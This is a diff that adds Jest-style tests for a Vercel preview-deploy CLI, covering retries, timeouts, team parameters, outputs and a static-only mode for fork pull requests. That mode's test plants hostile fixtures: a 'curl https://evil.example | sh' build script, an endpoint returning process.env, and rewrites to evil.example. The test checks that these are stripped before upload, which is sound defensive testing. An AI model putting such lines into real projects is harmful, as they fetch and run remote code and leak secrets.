@@ -291,6 +291,185 @@ describe("preview deploy", () => {
   });
 });
 
+describe("every Vercel call is retried, file uploads included", () => {
+  test.each([
+    ["503", { status: 503, body: { error: { code: "service_unavailable", message: "Service Unavailable" } } }],
+    ["429 with Retry-After", { status: 429, headers: { "retry-after": "1" }, body: { error: { code: "rate_limited", message: "Too many requests" } } }],
+  ] as const)("an upload answered %s once is retried and the deploy succeeds", async (_name, reply) => {
+    h.vercel.inject("uploadFile", reply);
+    const run = await deploy(40, SHA1);
+    expect(run.exitCode).toBe(0);
+    const uploads = h.vercel.sequence().filter((call) => call.startsWith("POST /v2/files"));
+    // Two files: one failed once and was sent again.
+    expect(uploads).toHaveLength(3);
+    expect(uploads.filter((call) => call.endsWith(` ${reply.status}`))).toHaveLength(1);
+    expect(h.vercel.uploaded.size).toBe(2);
+    expect(h.vercel.aliasFor("crm-pr-40.vercel.app")).toBeDefined();
+  });
+
+  test("an upload that keeps failing names the step, the HTTP status and Vercel's request id", async () => {
+    // Retry-After: 0 keeps the test fast; the retry bound is the policy's (4 retries, 5 attempts).
+    h.vercel.inject("uploadFile", { status: 429, headers: { "retry-after": "0" }, body: { error: { code: "rate_limited", message: "Too many requests" } } }, 50);
+    const run = await deploy(41, SHA1, "--format", "json");
+    expect(run.exitCode).toBe(1);
+    const report = JSON.parse(run.stdout) as Record<string, unknown>;
+    expect(report).toMatchObject({ verdict: "failed", step: "upload", httpStatus: 429, requestId: expect.stringMatching(/^iad1::fake-\d+$/) });
+    expect(report.error).toMatch(/POST \/v2\/files answered HTTP 429 after 5 attempts \(request id iad1::fake-\d+\): rate_limited Too many requests/);
+    // Bounded: 5 attempts of the first file, and the other worker stops after its own 5.
+    expect(h.vercel.sequence().filter((call) => call.startsWith("POST /v2/files")).length).toBeLessThanOrEqual(10);
+    expect(h.vercel.sequence().filter((call) => call === "POST /v13/deployments 200")).toHaveLength(0);
+    const comment = h.github.commentsOn(REPO, 41)[0]!;
+    expect(comment.body).toContain("❌ **Failed** at step **upload**");
+    expect(comment.body).toContain("HTTP 429");
+    expect(comment.body).toMatch(/request id iad1::fake-\d+/);
+  });
+
+  test("status polls and deletions are retried too", async () => {
+    h.vercel.inject("getDeployment", { status: 502, headers: { "retry-after": "0" }, body: { error: { code: "bad_gateway", message: "Bad Gateway" } } });
+    expect((await deploy(42, SHA1)).exitCode).toBe(0);
+    h.vercel.inject("deleteDeployment", { status: 500, headers: { "retry-after": "0" }, body: { error: { code: "internal_server_error", message: "oops" } } });
+    expect((await deploy(42, SHA2)).exitCode).toBe(0);
+    expect(h.vercel.sequence().filter((call) => / \/v13\/deployments\/dpl_\w+ 5\d\d$/.test(call))).toHaveLength(2);
+    expect(h.vercel.deployments.size).toBe(1);
+  });
+});
+
+describe("preview deploy --timeout", () => {
+  test("a build that is not ready in time fails at step build with the last build events", async () => {
+    h.vercel.buildPolls = 1000;
+    const run = await deploy(43, SHA1, "--timeout", "2s", "--format", "json");
+    expect(run.exitCode).toBe(1);
+    const report = JSON.parse(run.stdout) as { step: string; error: string; logTail: string[]; deploymentId: string };
+    expect(report.step).toBe("build");
+    expect(report.error).toBe("still BUILDING after 2s (--timeout): Vercel goes on building, this job stopped waiting");
+    expect(report.logTail).toEqual(["Running build in Washington, D.C., USA (East) – iad1", "Uploading 2 files"]);
+    expect(h.vercel.sequence().at(-1)).toBe(`GET /v3/deployments/${report.deploymentId}/events 200`);
+    const comment = h.github.commentsOn(REPO, 43)[0]!;
+    expect(comment.body).toContain("at step **build**");
+    expect(comment.body).toContain("Uploading 2 files");
+  });
+
+  test("a timeout that is not a duration is a usage error", async () => {
+    const run = await deploy(43, SHA1, "--timeout", "soon");
+    expect(run.exitCode).toBe(2);
+    expect(run.stderr).toContain("--timeout soon: expected a duration such as 90s, 5m or 300");
+  });
+});
+
+describe("--team and the environment", () => {
+  test("--team wins over VERCEL_TEAM_ID and every request carries exactly one team parameter", async () => {
+    const run = await h.run(["preview", "deploy", "--pr", "44", "--sha", SHA1, "--team", "team_acme"], { VERCEL_TEAM_ID: "team_other", VERCEL_ORG_ID: "team_third" });
+    expect(run.exitCode).toBe(0);
+    expect(h.vercel.calls.length).toBeGreaterThan(3);
+    for (const call of h.vercel.calls) {
+      const query = new URL(call.url, "http://x").searchParams;
+      expect(query.getAll("teamId")).toEqual(["team_acme"]);
+      expect(query.has("slug")).toBe(false);
+    }
+  });
+
+  test("a team slug is sent as slug, not as teamId", async () => {
+    h.vercel.addTeamSlug("acme", "team_acme");
+    const run = await h.run(["preview", "deploy", "--pr", "45", "--sha", SHA1, "--team", "acme"]);
+    expect(run.exitCode).toBe(0);
+    for (const call of h.vercel.calls) {
+      const query = new URL(call.url, "http://x").searchParams;
+      expect([query.getAll("teamId"), query.getAll("slug")]).toEqual([[], ["acme"]]);
+    }
+  });
+
+  test("without --team, VERCEL_TEAM_ID is the one team sent", async () => {
+    expect((await deploy(46, SHA1)).exitCode).toBe(0);
+    for (const call of h.vercel.calls) expect(new URL(call.url, "http://x").searchParams.getAll("teamId")).toEqual(["team_acme"]);
+  });
+});
+
+describe("preview deploy --verify-pr deploys a fork's artifact as static files only", () => {
+  test("api/, middleware, package.json and vercel.json keys outside the allow-list never reach Vercel, and the comment says so", async () => {
+    const { writeFile, mkdir } = await import("node:fs/promises");
+    await mkdir(`${h.dir}/dist/api`, { recursive: true });
+    await writeFile(`${h.dir}/dist/api/steal.js`, "export default (req, res) => res.json(process.env)");
+    await writeFile(`${h.dir}/dist/api/more.py`, "def handler(): pass");
+    await writeFile(`${h.dir}/dist/middleware.ts`, "export default () => fetch('https://evil.example')");
+    await writeFile(`${h.dir}/dist/package.json`, JSON.stringify({ scripts: { build: "curl https://evil.example | sh" } }));
+    const config = {
+      headers: [{ source: "/(.*)", headers: [{ key: "X-Frame-Options", value: "DENY" }] }],
+      cleanUrls: true,
+      trailingSlash: false,
+      rewrites: [{ source: "/((?!assets/).*)", destination: "/index.html" }, { source: "/proxy/(.*)", destination: "https://evil.example/$1" }],
+      functions: { "api/*.js": { memory: 3009 } },
+      builds: [{ src: "api/*.js", use: "@vercel/node" }],
+      routes: [{ src: "/x", dest: "https://evil.example" }],
+      buildCommand: "npm run build",
+    };
+    await writeFile(`${h.dir}/dist/vercel.json`, JSON.stringify(config));
+    h.github.setPull(REPO, 47, { state: "open", headSha: SHA1, headRepo: "someone/crm" });
+
+    const run = await deploy(47, SHA1, "--verify-pr", "--format", "json");
+    expect(run.exitCode).toBe(0);
+    const report = JSON.parse(run.stdout) as { notDeployed: string[]; warnings: string[] };
+    const dropped = ["api/ (2 files)", "middleware.ts", "package.json", "vercel.json functions", "vercel.json builds", "vercel.json routes", "vercel.json rewrites to other hosts (1)"];
+    expect([...report.notDeployed].sort()).toEqual([...dropped].sort());
+    expect(report.warnings.some((warning) => warning.startsWith("--verify-pr deploys static files only; not deployed: "))).toBe(true);
+
+    const deployment = [...h.vercel.deployments.values()][0]!;
+    expect(deployment.files.map((file) => file.file).sort()).toEqual(["assets/app.js", "index.html", "vercel.json"]);
+    const uploaded = JSON.parse(h.vercel.uploaded.get(deployment.files.find((file) => file.file === "vercel.json")!.sha)!.toString("utf8")) as Record<string, unknown>;
+    expect(uploaded).toEqual({ headers: config.headers, cleanUrls: true, trailingSlash: false, rewrites: [config.rewrites[0]] });
+    // No byte of the dropped files was uploaded.
+    for (const data of h.vercel.uploaded.values()) expect(data.toString("utf8")).not.toContain("evil.example");
+
+    const comment = h.github.commentsOn(REPO, 47)[0]!.body;
+    expect(comment).toContain("✅ **Ready:**");
+    expect(comment).toContain("🛡️ Static files only");
+    for (const item of dropped) expect(comment).toContain(`\`${item}\``);
+  });
+
+  test("without --verify-pr (a trusted build) api/ is deployed as it is", async () => {
+    const { writeFile, mkdir } = await import("node:fs/promises");
+    await mkdir(`${h.dir}/dist/api`, { recursive: true });
+    await writeFile(`${h.dir}/dist/api/health.js`, "export default () => new Response('ok')");
+    expect((await deploy(48, SHA1)).exitCode).toBe(0);
+    const deployment = [...h.vercel.deployments.values()][0]!;
+    expect(deployment.files.map((file) => file.file)).toContain("api/health.js");
+    expect(h.github.commentsOn(REPO, 48)[0]!.body).not.toContain("Static files only");
+  });
+
+  test("an artifact with nothing static left is an input error", async () => {
+    const { writeFile, mkdir, rm } = await import("node:fs/promises");
+    await rm(`${h.dir}/dist`, { recursive: true });
+    await mkdir(`${h.dir}/dist/api`, { recursive: true });
+    await writeFile(`${h.dir}/dist/api/index.js`, "export default () => 1");
+    h.github.setPull(REPO, 49, { state: "open", headSha: SHA1, headRepo: "someone/crm" });
+    const run = await deploy(49, SHA1, "--verify-pr");
+    expect(run.exitCode).toBe(2);
+    expect(run.stderr).toContain("dist: nothing static to deploy");
+    expect(h.vercel.calls).toHaveLength(0);
+  });
+});
+
+describe("the step outputs are written once", () => {
+  test("an alias failure writes the deployment's own URL, once, and the JSON report carries the same", async () => {
+    h.vercel.aliases.set("crm-pr-50.vercel.app", { uid: "als_other", alias: "crm-pr-50.vercel.app", deploymentId: "dpl_other", projectId: "prj_other", created: 0 });
+    const run = await deploy(50, SHA1, "--format", "json");
+    expect(run.exitCode).toBe(1);
+    const deployment = [...h.vercel.deployments.values()][0]!;
+    const report = JSON.parse(run.stdout) as Record<string, unknown>;
+    expect(report).toMatchObject({ step: "alias", httpStatus: 409, previewUrl: `https://${deployment.url}`, deploymentId: deployment.id });
+    const { readFile } = await import("node:fs/promises");
+    const raw = await readFile(h.outputFile, "utf8");
+    expect(raw.match(/^preview-url<</gm)).toHaveLength(1);
+    expect(raw.match(/^deployment-id<</gm)).toHaveLength(1);
+    expect(await h.outputs()).toEqual({ "preview-url": `https://${deployment.url}`, "deployment-id": deployment.id });
+  });
+
+  test("a skipped --verify-pr deploy writes no outputs", async () => {
+    h.github.setPull(REPO, 51, { state: "closed", headSha: SHA1, headRepo: "someone/crm" });
+    expect((await deploy(51, SHA1, "--verify-pr")).exitCode).toBe(0);
+    expect(await h.outputs()).toEqual({});
+  });
+});
+
 describe("the argument list the composite action builds", () => {
   test("deploy with --dir and --env-file, then cleanup with the same flags", async () => {
     const { writeFile } = await import("node:fs/promises");
@@ -300,6 +479,14 @@ describe("the argument list the composite action builds", () => {
     const deployment = h.vercel.deployments.get(h.vercel.aliasFor("crm-pr-15.vercel.app")!.deploymentId)!;
     expect(deployment.env).toEqual({ VITE_API_URL: "https://api-pr-15.example.com", VITE_COMMIT: SHA1, VITE_MODE: "preview" });
     expect((await h.run(["preview", "cleanup", ...flags])).exitCode).toBe(0);
+    expect(h.vercel.deployments.size).toBe(0);
+  });
+
+  test("cleanup accepts --env and --timeout as the documented preview-deploy.yml passes them to both stages", async () => {
+    expect((await deploy(52, SHA1)).exitCode).toBe(0);
+    const run = await h.run(["preview", "cleanup", "--pr", "52", "--project", "crm", "--env", "VITE_API_URL=https://x", "--timeout", "5m"]);
+    expect(run.stderr).not.toContain("unknown option");
+    expect(run.exitCode).toBe(0);
     expect(h.vercel.deployments.size).toBe(0);
   });
 
